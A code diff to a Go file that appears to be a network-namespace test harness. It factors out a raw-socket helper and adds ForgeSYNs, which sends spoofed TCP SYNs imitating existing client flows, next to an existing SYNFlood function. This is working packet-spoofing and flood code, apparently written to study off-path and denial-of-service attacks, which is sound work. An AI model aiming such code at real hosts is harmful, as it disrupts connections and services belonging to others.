@@ -23,14 +23,9 @@ func SYNFlood(ctx context.Context, ns string, target netip.AddrPort, spoof netip
 	if !target.Addr().Is4() || !spoof.Addr().Is4() || spoof.Bits() > 30 {
 		return 0, fmt.Errorf("SYN flood to %s from %s: want IPv4, and a prefix of at least 4 addresses", target, spoof)
 	}
-	var fd int
-	err := netns.Do(ns, func() error {
-		var err error
-		fd, err = unix.Socket(unix.AF_INET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, unix.IPPROTO_RAW)
-		return err
-	})
+	fd, err := rawSocket(ns)
 	if err != nil {
-		return 0, fmt.Errorf("raw socket in %s: %w", ns, err)
+		return 0, err
 	}
 	defer unix.Close(fd)
 
@@ -55,6 +50,59 @@ func SYNFlood(ctx context.Context, ns string, target netip.AddrPort, spoof netip
 		sent++
 	}
 	return sent, nil
+}
+
+// ForgeSYNs sends, from namespace ns, n TCP SYNs for each flow of from,
+// each with that flow's client address and port as its source and target
+// as its destination, and a random sequence number: what an attacker who
+// knows a connection's addresses and ports, but not its sequence numbers,
+// can send from any network that lets spoofed sources out. It stops early
+// when ctx ends, and returns how many it sent.
+func ForgeSYNs(ctx context.Context, ns string, target netip.AddrPort, from []netip.AddrPort, n int) (int, error) {
+	if !target.Addr().Is4() {
+		return 0, fmt.Errorf("forged SYNs to %s: want IPv4", target)
+	}
+	fd, err := rawSocket(ns)
+	if err != nil {
+		return 0, err
+	}
+	defer unix.Close(fd)
+
+	to := &unix.SockaddrInet4{Addr: target.Addr().As4()}
+	pkt := make([]byte, 40)
+	sent := 0
+	for range n {
+		for _, f := range from {
+			if ctx.Err() != nil {
+				return sent, ctx.Err()
+			}
+			if !f.Addr().Is4() {
+				return sent, fmt.Errorf("forged SYN from %s: want IPv4", f)
+			}
+			a := f.Addr().As4()
+			synPacket(pkt, binary.BigEndian.Uint32(a[:]), target, f.Port(), rand.Uint32())
+			if err := unix.Sendto(fd, pkt, 0, to); err != nil {
+				return sent, fmt.Errorf("send SYN from %s in %s: %w", f, ns, err)
+			}
+			sent++
+		}
+	}
+	return sent, nil
+}
+
+// rawSocket opens a raw IPv4 socket in namespace ns that sends whole
+// packets, IP header included (IPPROTO_RAW).
+func rawSocket(ns string) (int, error) {
+	var fd int
+	err := netns.Do(ns, func() error {
+		var err error
+		fd, err = unix.Socket(unix.AF_INET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, unix.IPPROTO_RAW)
+		return err
+	})
+	if err != nil {
+		return -1, fmt.Errorf("raw socket in %s: %w", ns, err)
+	}
+	return fd, nil
 }
 
 // synPacket writes an IPv4 TCP SYN from src:sport to target into pkt (40
